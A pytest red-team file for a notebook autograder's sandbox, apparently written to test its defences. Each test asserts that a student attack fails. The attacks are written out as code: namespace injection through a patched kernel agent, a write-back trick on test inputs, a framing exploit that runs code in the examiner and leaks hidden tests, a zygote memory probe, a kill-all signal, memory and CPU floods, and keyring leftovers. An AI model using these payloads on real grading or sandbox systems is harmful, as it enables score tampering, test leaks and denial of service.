"""Red team: the grader's trust model attacked by a student who has read the grader's source.

The property under attack: no code a student submits can change its own score or anyone
else's, read a hidden test or touch the host outside its own workspace; its worst case is a
failed or low row for itself; nothing is left running; one student cannot make another's
grading fail. (Known and accepted, not attacked here: the shortcut ban and the Triton launch
count are observed in the student's kernel; a student may compute the right answer any way it
likes, replacing the grader's agent in its kernel included; hidden test *inputs* reach the
student's function.)

Every test asserts the property, so an attack that works is a failing test. All of them worked
against the grader as first written (the commit that added this file marks them xfail with the
mechanism); each was fixed where the mechanism lives and the mark removed.

`batch` grades one class of notebook 01 two at a time (sandbox on), with the reference rows
`right` (3/3) and `wrong` (the transposed answer, 0/3) and the honest versions of the answers the
attacks are built on (`noise`: random scores of the right shape; `buggy3d`: right except on 3-D
inputs), so each attack is judged against what its answer earns honestly. `owned` grades, in a
class of its own, the one attack that takes the examiner zygote down with it. The unit-level
tests at the end attack one mechanism each, where that is sharper than a whole batch.
"""

import csv
import html
import json
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time

import nbformat
import pytest

from grader import autograde, channel, grade, sandbox
from grader import notebooks as nbs
from grading_helpers import ASSIGNMENT, TRANSPOSED, answered, put, source

FULL = 3.0
BWRAP = sandbox.resolve_mode("auto") == "bwrap"
ROOT = os.geteuid() == 0
NAME = f"{ASSIGNMENT}.ipynb"
needs_uids = pytest.mark.skipif(not (BWRAP and ROOT), reason="a uid per kernel needs root and bubblewrap")

# --------------------------------------------------------------------------- answers
# Random scores of the right shape: honestly worth 0.
NOISE = ("import torch\n"
         "def dot_product_scores(q, k):\n"
         "    return torch.rand(torch.broadcast_shapes(q.shape[:-2], k.shape[:-2]) + (q.shape[-2], k.shape[-2]))\n")

# Right except on 3-D inputs (which the visible checker never tries): honestly worth 1 (the checker).
BUGGY_3D = ("def dot_product_scores(q, k):\n"
            "    s = q @ k.transpose(-2, -1)\n"
            "    return s + 1 if q.ndim == 3 else s\n")

# --------------------------------------------------------------------------- attack 1
# The examiner puts *every* name the kernel's `lookup` reply holds into the test's namespace
# (Session.run: self.ns.update(values)), not just the names it asked for. A kernel whose agent
# adds names rebinds what the test cell trusts: `torch` (so torch.allclose is the student's), or
# `__builtins__` (so the test's own `from attnkit.checks import ...` imports the student's module).
INJECT_TORCH = r'''
import collections as _co, torch as _real_torch
import attnkit._agent as _A
_SEEDS = []
class _SpyGenerator:
    def manual_seed(self, seed):
        _SEEDS.append(seed)
        return _real_torch.Generator().manual_seed(seed)
class _LyingTorch:
    def __getattr__(self, name):
        if name in ("allclose", "equal", "isclose"):
            return lambda *a, **k: True
        if name == "Generator":
            return _SpyGenerator
        return getattr(_real_torch, name)
_EXTRA = {"torch": _LyingTorch()}
_orig_handle = _A.Agent.handle
def _handle(self, header, buffers):
    if header.get("op") == "lookup":
        header = dict(header, names=list(header.get("names", [])) + list(_EXTRA))
        saved, self.ns = self.ns, _co.ChainMap(_EXTRA, self.ns)
        try:
            return _orig_handle(self, header, buffers)
        finally:
            self.ns = saved
    return _orig_handle(self, header, buffers)
_A.Agent.handle = _handle
'''

INJECT_BUILTINS = INJECT_TORCH.replace('_EXTRA = {"torch": _LyingTorch()}', r'''
import builtins as _b
class _AnyModule:
    def __getattr__(self, name):
        return lambda *a, **k: None
def _import(name, *args, **kwargs):
    return _AnyModule()
_B = {n: getattr(_b, n) for n in dir(_b) if not n.startswith("_")}
_B["__import__"] = _import
_EXTRA = {"torch": _LyingTorch(), "__builtins__": _B}
for _n in ("attnkit", "importlib", "subprocess", "sys", "plt", "heatmap", "SimilarityExplorer"):
    _EXTRA[_n] = None  # the examiner passes its globals to __import__: they must all be data
''')

# --------------------------------------------------------------------------- attack 2
# The examiner applies the in-place changes the kernel *reports* to the test's own argument
# tensors (_remote._write_back), so a test that computes its expected value from its inputs
# after the call compares the student's numbers with the student's numbers. Calls made by a
# checker carry a ban spec (attnkit._spy.ACTIVE is non-empty in the kernel), direct calls from a
# test cell do not: the answer below is the buggy one for the checker, and zeroes its inputs
# (returning zeros of the right shape) for every direct call.
WRITE_BACK = ("import torch\nimport attnkit._spy as _spy\n"
              "def dot_product_scores(q, k):\n"
              "    if not _spy.ACTIVE:  # called straight from a test cell, not through a checker\n"
              "        shape = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2]) + (q.shape[-2], k.shape[-2])\n"
              "        q.zero_(); k.zero_()\n"
              "        return torch.zeros(shape, dtype=q.dtype)\n"
              "    s = q @ k.transpose(-2, -1)\n"
              "    return s + 1 if q.ndim == 3 else s\n")

# --------------------------------------------------------------------------- attack 3
# Code execution in the examiner. The worker forwards the kernel's reply to the examiner with
# the kernel's buffers as they are (Examiner.run -> channel.send). With more than
# channel.MAX_BUFFERS buffers the examiner's channel.recv raises ChannelError after reading the
# header and the buffer count, leaving the stream at the first buffer's length field. The test
# fails; Session.run's `finally` calls _remote.release(), whose recv reads buffer 0 as a frame
# (b"x": not JSON, ChannelError, swallowed by release()); then serve()'s loop reads buffer 1 as
# a whole frame (its length field is the header size, the next length's zero high half the
# buffer count) -- a `run` request whose source the student wrote -- and execs it. That code
# owns the examiner's socket: it answers every later test "ok", sends each test's source (hidden
# part included) to the kernel, and runs as the uid every examiner of the batch shares.
N_BUFFERS = channel.MAX_BUFFERS + 1

EVIL_PREFIX = f"""
import os, signal
import attnkit._remote as _R
from grader import channel as _C
_s = _R._transport.sock
_need = 4 + 8 * ({N_BUFFERS} - 3)  # what is left of the kernel's frame: the empty buffers' lengths
while _need:
    _chunk = _s.recv(min(_need, 1 << 20))
    if not _chunk:
        raise SystemExit
    _need -= len(_chunk)
"""

EVIL_SERVE = """
import subprocess
subprocess.Popen(['sleep', '4747.5'], start_new_session=True)  # a process left behind on purpose
_rid = 10 ** 6
while True:
    _h, _b = _C.recv(_s)
    if _h.get('op') != 'run':
        continue
    _rid += 1
    _C.send(_s, {'op': 'kernel', 'rid': _rid, 'request': {'op': 'lookup', 'args': [], 'kwargs': {'D': []},
                                                          'names': ['OWNED:' + str(_h.get('source', ''))[::-1]]}})
    while True:
        _r, _ = _C.recv(_s)
        if _r.get('op') == 'reply' and _r.get('rid') == _rid:
            break
    _C.send(_s, {'op': 'done', 'status': 'ok', 'ename': '', 'evalue': '', 'stdout': ''})
"""

# The zygote forked this examiner and never made itself non-dumpable (only examiners call
# _harden): same uid, no Yama here, so an owned examiner may write the zygote's memory, and with
# it every examiner forked after (every later student's verdicts and hidden tests).
EVIL_PROBE = """
try:
    with open(f'/proc/{os.getppid()}/mem', 'r+b'):
        _zygote = 'zygote memory writable'
except OSError as _e:
    _zygote = 'zygote memory refused: ' + type(_e).__name__
_C.send(_s, {'op': 'kernel', 'rid': 999, 'request': {'op': 'lookup', 'args': [], 'kwargs': {'D': []},
                                                     'names': ['OWNED:' + _zygote[::-1]]}})
"""

# every process of the examiners' uid: the zygote and the examiners of the students graded alongside
EVIL_KILL = "os.kill(-1, signal.SIGKILL)\n"


def _owning_agent(evil: str) -> str:
    """Kernel code: replace the agent so that its first `lookup` reply carries ``evil`` as a frame."""
    return f'''
import json as _json
import attnkit._agent as _A
_EVIL = {evil!r}
_ARMED = [True]
_LEAKS = []
_orig_handle = _A.Agent.handle
def _handle(self, header, buffers):
    if header.get("op") == "lookup":
        for _n in header.get("names", []):
            if isinstance(_n, str) and _n.startswith("OWNED:"):
                _LEAKS.append(_n[len("OWNED:"):])
                return {{"ok": True, "value": {{"D": []}}, "storages": []}}, []
        if _ARMED[0]:
            _ARMED[0] = False
            run = _json.dumps({{"op": "run", "name": "x", "source": _EVIL, "seconds": 1e6}}).encode()
            return {{"ok": True, "value": None, "storages": []}}, [b"x", run] + [b""] * ({N_BUFFERS} - 2)
    return _orig_handle(self, header, buffers)
_A.Agent.handle = _handle
'''


# --------------------------------------------------------------------------- attacks that must fail
ODD_EXCEPTION = ("def dot_product_scores(q, k):\n"
                 "    raise type('CheckFailed', (Exception,), {})('x' * 3_000_000)\n")
HUGE_VIEW = ("import torch\n"
             "def dot_product_scores(q, k):\n"
             "    return torch.zeros(1).expand(65536, 65536)  # 2**32 elements on 4 bytes\n")
NAN_REPLY = TRANSPOSED + r'''
import attnkit._agent as _A
_orig_handle = _A.Agent.handle
def _handle(self, header, buffers):
    reply, data = _orig_handle(self, header, buffers)
    if header.get("op") == "call":
        reply = dict(reply, value=float("nan"), ok=True)
    return reply, data
_A.Agent.handle = _handle
'''
SCRIPT = "<script>window.attn_pwned = 1</script>"
HTML_OUTPUT = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))\n"


def _after(nb, code: str):
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


SETTINGS = dict(jobs=2, limits=grade.Limits(cell_timeout=15, notebook_timeout=120, memory_bytes=int(2.5 * 2**30)),
                progress=False)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    subs, out = root / "submitted", root / "graded"
    put(subs, "right", NAME, answered())
    put(subs, "wrong", NAME, answered(TRANSPOSED))
    put(subs, "noise", NAME, answered(NOISE))
    put(subs, "buggy3d", NAME, answered(BUGGY_3D))

    put(subs, "inject_torch", NAME, answered(NOISE + INJECT_TORCH))
    put(subs, "inject_builtins", NAME, _after(answered(NOISE + INJECT_BUILTINS),
                                              "print('seeds the tests used:', _SEEDS)"))
    put(subs, "writeback", NAME, answered(WRITE_BACK))
    owning = _owning_agent(EVIL_PREFIX + EVIL_PROBE + EVIL_SERVE)
    put(subs, "owned_examiner", NAME, _after(answered(TRANSPOSED + owning), "print('test sources, reversed:', _LEAKS)"))

    put(subs, "odd_exception", NAME, answered(ODD_EXCEPTION))
    put(subs, "huge_view", NAME, answered(HUGE_VIEW))
    put(subs, "nan_reply", NAME, answered(NAN_REPLY))
    put(subs, "html_output", NAME, _after(answered(), HTML_OUTPUT))

    results = autograde.autograde(subs, ASSIGNMENT, out, autograde.Settings(**SETTINGS))
    with (out / "grades.csv").open(encoding="utf-8") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    return dict(rows=rows, results={r.student_id: r for r in results}, out=out)


def score(batch, student):
    r = batch["rows"][student]
    assert r["status"] == "graded", r
    return float(r["score"])


def page(batch, student) -> str:
    return (batch["out"] / "feedback" / autograde.feedback_folder(student) / f"{ASSIGNMENT}.html").read_text(
        encoding="utf-8")


def _hidden_lines():
    lines = [line for c in source().cells if nbs.is_test(c) for line in nbs.hidden_lines(c.source)]
    assert lines
    return lines


def test_reference_rows(batch):
    assert score(batch, "right") == FULL and score(batch, "wrong") == 0.0
    assert score(batch, "noise") == 0.0
    assert score(batch, "buggy3d") < FULL


# --------------------------------------------------------------------------- 1: lookup injection
def test_a_lookup_reply_cannot_rebind_torch(batch):
    assert score(batch, "inject_torch") <= score(batch, "noise"), batch["rows"]["inject_torch"]


def test_a_lookup_reply_cannot_rebind_builtins_or_the_checkers(batch):
    assert score(batch, "inject_builtins") <= score(batch, "noise"), batch["rows"]["inject_builtins"]


def test_injected_names_do_not_reveal_hidden_test_code(batch):
    printed = re.findall(r"seeds the tests used: \[[^\]]*\]", page(batch, "inject_builtins"))
    assert printed  # the cell ran and printed what its proxies saw
    assert not [line for line in printed if "2024" in line], printed


# --------------------------------------------------------------------------- 2: write-back
def test_in_place_changes_cannot_rewrite_a_tests_expected_values(batch):
    assert score(batch, "writeback") <= score(batch, "buggy3d"), batch["rows"]["writeback"]


# --------------------------------------------------------------------------- 3: the examiner owned
def test_kernel_replies_cannot_run_code_in_the_examiner(batch):
    assert score(batch, "owned_examiner") <= score(batch, "wrong"), batch["rows"]["owned_examiner"]


def test_an_owned_examiner_cannot_leak_hidden_tests(batch):
    text = page(batch, "owned_examiner")
    assert "test sources, reversed:" in text  # the cell ran
    for line in _hidden_lines():
        backwards = line[::-1]
        assert backwards not in text and html.escape(backwards) not in text, backwards


@pytest.mark.skipif(not BWRAP, reason="bubblewrap is not available here")
def test_an_owned_examiner_cannot_reach_the_zygote(batch):
    text = page(batch, "owned_examiner")
    assert "test sources, reversed:" in text  # the cell ran
    assert "zygote memory writable"[::-1] not in text


# --------------------------------------------------------------------------- attacks that fail today
@pytest.mark.parametrize("student", ["odd_exception", "huge_view", "nan_reply"])
def test_odd_replies_cost_only_their_own_points(batch, student):
    """An exception named like the grader's own (CheckFailed) with a 3 MB message, a 2**32-element
    stride-0 view the examiner must not materialise, a reply with NaN in its JSON: each fails its
    own tests, quickly, and the row and page stay small."""
    r = batch["rows"][student]
    assert score(batch, student) <= score(batch, "wrong"), r
    assert len(r["reason"]) <= 1000
    assert batch["results"][student].seconds < 100
    assert len(page(batch, student)) <= 5_000_000


def test_student_html_is_sanitized_in_the_feedback_page(batch):
    assert score(batch, "html_output") == FULL
    assert SCRIPT not in page(batch, "html_output")


# --------------------------------------------------------------------------- 4: the instructor's formgrader
def test_student_html_never_reaches_the_instructors_formgrader_unsanitized(batch):
    copy = batch["out"] / "autograded" / "html_output" / ASSIGNMENT / NAME
    assert copy.exists()
    nb = nbformat.read(copy, as_version=4)
    outputs = json.dumps([c.get("outputs", []) for c in nb.cells if c.cell_type == "code"])
    assert "<script" not in outputs  # (the cell's source quotes it as code: formgrader shows that as text)


# --------------------------------------------------------------------------- 3b: the zygote killed
@pytest.fixture(scope="module")
def owned(tmp_path_factory):
    """A class where the owned examiner kills every process of the examiners' uid (the zygote
    and the examiners of whoever is graded at the same time), with honest students after it."""
    root = tmp_path_factory.mktemp("owned")
    subs, out = root / "submitted", root / "graded"
    put(subs, "a_owner", NAME, answered(TRANSPOSED + _owning_agent(EVIL_PREFIX + EVIL_KILL + EVIL_SERVE)))
    for student in ("b_honest", "c_honest", "d_honest"):
        put(subs, student, NAME, answered())
    try:
        results = autograde.autograde(subs, ASSIGNMENT, out, autograde.Settings(**SETTINGS))
        return {r.student_id: r for r in results}, None
    except Exception as e:  # noqa: BLE001 - the whole batch lost: reported by the test
        return None, f"{type(e).__name__}: {e}"


@pytest.mark.skipif(not BWRAP, reason="bubblewrap is not available here")
def test_an_owned_examiner_cannot_fail_the_other_students(owned):
    results, crash = owned
    assert crash is None, crash
    for student in ("b_honest", "c_honest", "d_honest"):
        assert results[student].status == "graded" and results[student].score == FULL, results[student]


# --------------------------------------------------------------------------- unit level
def _frame(header: dict, buffers) -> bytes:
    head = json.dumps(header).encode()
    parts = [struct.pack(">Q", len(head)), head, struct.pack(">I", len(buffers))]
    for b in buffers:
        parts += [struct.pack(">Q", len(b)), b]
    return b"".join(parts)


def test_a_framing_error_ends_the_channel():
    forged = json.dumps({"op": "run", "source": "print('forged')"}).encode()
    data = _frame({"op": "reply", "rid": 1}, [b"x", forged] + [b""] * (channel.MAX_BUFFERS - 1))
    a, b = socket.socketpair()

    def send():
        try:
            a.sendall(data)
        except OSError:
            pass  # the reader hung up: the rest of the frame is not needed

    try:
        threading.Thread(target=send, daemon=True).start()
        seen = []
        for _ in range(3):
            try:
                seen.append(channel.recv(b)[0])
            except channel.ChannelError:
                seen.append("error")
        assert {"op": "run", "source": "print('forged')"} not in seen, seen
    finally:
        b.close(), a.close()


def test_a_lookup_reply_only_fills_the_names_asked_for():
    import torch

    from attnkit import _remote, _wire
    from grader import examiner

    class Transport:
        def request(self, header, buffers):
            if header.get("op") == "lookup":
                tree, enc = _wire.encode({"f": 1, "torch": "not torch", "__builtins__": {}})
                return enc.header(ok=True, value=tree), enc.buffers
            return {"ok": True, "value": None}, []

    session = examiner.Session()
    assert session.setup([("cell 1", "import torch")], ["torch"], ["f"]) == []
    _remote.set_transport(Transport())
    try:
        done = session.run("t", "assert f == 1\nassert torch.__name__ == 'torch'\nassert len([1]) == 1", 10)
    finally:
        _remote.set_transport(None)
    assert done["status"] == "ok", done
    assert session.ns.get("torch") is torch


def test_the_decoder_builds_only_attnkits_dataclasses():
    from attnkit import _wire

    with pytest.raises(_wire.WireError):
        _wire.Decoder({}, []).decode({"dc": ["attnkit._validate:torch.utils._pytree.LeafSpec", {"D": []}]})


def _kernel(tmp_path):
    from grader import kernel

    run = tmp_path / "run"
    run.mkdir(mode=0o700)
    uids = sandbox.UidPool()
    uid = uids.acquire()
    k = kernel.Kernel(run, sandbox.Policy(mode="bwrap", uid=uid, memory_bytes=int(2.5 * 2**30)))
    k.start()
    return k, uids, uid


def _rss() -> int:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


@needs_uids
def test_a_kernel_cannot_fill_the_workers_memory(tmp_path):
    k, uids, uid = _kernel(tmp_path)
    try:
        before = _rss()
        flood = r'''
import threading, time
_k = get_ipython().kernel
def _flood():
    time.sleep(2)  # after this cell: the grader is busy elsewhere (a test in the examiner)
    blob = b"x" * (64 << 20)
    for _ in range(40):
        _k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": ""}, parent={"msg_id": "none"},
                        buffers=[blob])
threading.Thread(target=_flood, daemon=True).start()
'''
        assert k.execute(flood, timeout=30).status == "ok"
        time.sleep(12)  # the worker reads nothing meanwhile
        grown = _rss() - before
    finally:
        k.shutdown()
        uids.release(uid)
    assert grown < 2**30, f"the grader's process grew by {grown >> 20} MiB"


SPINNERS = min(200, 12 * (os.cpu_count() or 2))  # under the kernel's pids.max (256)
# one host process spinning for 3 s, reporting the CPU seconds it got
PROBE = ("import time\nend = time.monotonic() + 3\nwhile time.monotonic() < end:\n    pass\n"
         "print(time.process_time())\n")


def _kernel_cpu_seconds(k) -> float | None:
    """CPU seconds used so far by everything in the kernel's cpu cgroup (None: no cpu cgroup)."""
    for d in (k.cgroup.dirs if k.cgroup is not None else []):
        for name, scale in (("cpuacct.usage", 1e-9), ("cpu.stat", None)):
            path = d / name
            if not path.exists():
                continue
            text = path.read_text()
            if scale is not None:
                return int(text) * scale
            for line in text.splitlines():
                if line.startswith("usage_usec"):
                    return int(line.split()[1]) * 1e-6
    return None


@needs_uids
def test_a_kernel_cannot_starve_the_host_of_cpu(tmp_path):
    """However many processes a kernel starts (each in a session of its own, out of bwrap's
    autogroup), the host's processes keep their share: during the same 3 s, one process of the
    host gets at least as much CPU as the whole kernel gets per core (the kernel may use a core
    no one else wants). A ratio measured at once, so whatever else loads the machine weighs on
    both sides alike; without the kernel's cpu cgroup its spinners take nearly everything."""
    k, uids, uid = _kernel(tmp_path)
    try:
        if _kernel_cpu_seconds(k) is None:
            pytest.skip("no cpu cgroup for kernels here (the host does not let root make one)")
        spin = ("import os, time\n"
                f"for _ in range({SPINNERS}):\n"
                "    if os.fork() == 0:\n"
                "        os.setsid()  # a session (and a scheduler autogroup) of its own\n"
                "        end = time.monotonic() + 8\n"
                "        while time.monotonic() < end:\n"
                "            pass\n"
                "        os._exit(0)\n")
        assert k.execute(spin, timeout=30).status == "ok"
        time.sleep(0.5)
        before = _kernel_cpu_seconds(k)
        host = float(subprocess.run([sys.executable, "-c", PROBE], capture_output=True, text=True,
                                    timeout=60).stdout)
        kernel_cpu = _kernel_cpu_seconds(k) - before
    finally:
        k.shutdown()
        uids.release(uid)
    cores = os.cpu_count() or 1
    assert host >= kernel_cpu / cores, (f"in 3 s the host process got {host:.2f} CPU s, the kernel's {SPINNERS} "
                                        f"spinners {kernel_cpu:.2f} on {cores} cores")


@needs_uids
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the keyring syscall numbers below are x86-64's")
def test_a_kernel_leaves_nothing_for_the_next_student_with_its_uid():
    uids = sandbox.UidPool()
    uid = uids.acquire()
    policy = sandbox.Policy(uid=uid)
    leave = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
             "print(libc.syscall(248, b'user', b'attn-redteam', b'left by the last student', 24, -4))\n")  # add_key
    find = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "kid = libc.syscall(249, b'user', b'attn-redteam', None, 0)\n"  # request_key
            "buf = ctypes.create_string_buffer(64)\n"
            "n = libc.syscall(250, 11, kid, buf, 64) if kid > 0 else -1\n"  # KEYCTL_READ
            "print(buf.raw[:max(n, 0)].decode())\n"
            "if kid > 0:\n    libc.syscall(250, 21, kid)\n")  # KEYCTL_INVALIDATE: leave the host clean
    try:
        for code in (leave, find):
            cmd = sandbox.wrap([sys.executable, "-c", code], policy, workspace=True)
            found = subprocess.run(cmd, capture_output=True, text=True, timeout=60,
                                   env=sandbox.environment(sandbox.WORKSPACE)).stdout
    finally:
        uids.release(uid)
    assert "left by the last student" not in found


def test_nothing_is_left_running(batch, owned):
    """The owned examiners started `sleep 4747.5` in a session of their own: gone with the zygote."""
    ps = subprocess.run(["ps", "-eo", "args="], capture_output=True, text=True).stdout
    assert "sleep 4747.5" not in ps
